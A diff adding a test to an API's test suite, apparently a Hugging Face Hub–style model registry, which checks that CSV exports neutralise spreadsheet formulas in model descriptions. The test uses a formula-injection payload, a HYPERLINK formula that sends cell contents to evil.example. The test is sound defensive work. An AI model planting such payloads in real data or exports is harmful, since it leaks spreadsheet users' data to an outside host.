@@ -310,6 +310,15 @@ describe('the Hugging Face Hub\u2019s conventions', () => {
       expect(rows[0].description).toBe(description);
     });
 
+    it('writes a description that a spreadsheet would run as a formula with a leading quote, the JSON as it is', async () => {
+      const description = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the weights")';
+      await request(t.http).post('/v1/models').set(auth).send({ id: 'acme/formula', description }).expect(201);
+      const { rows } = await csvOf('/v1/models?ids=acme/formula&format=csv');
+      expect(rows[0].description).toBe(`'${description}`);
+      const { body } = await request(t.http).get('/v1/models/acme/formula').expect(200);
+      expect(body.description).toBe(description);
+    });
+
     it('answers a batch of ids in the order asked', async () => {
       const { rows } = await csvOf(`/v1/models?ids=${QWEN},${R1}&format=csv`);
       expect(rows.map((r) => r.id)).toEqual([QWEN, R1]);
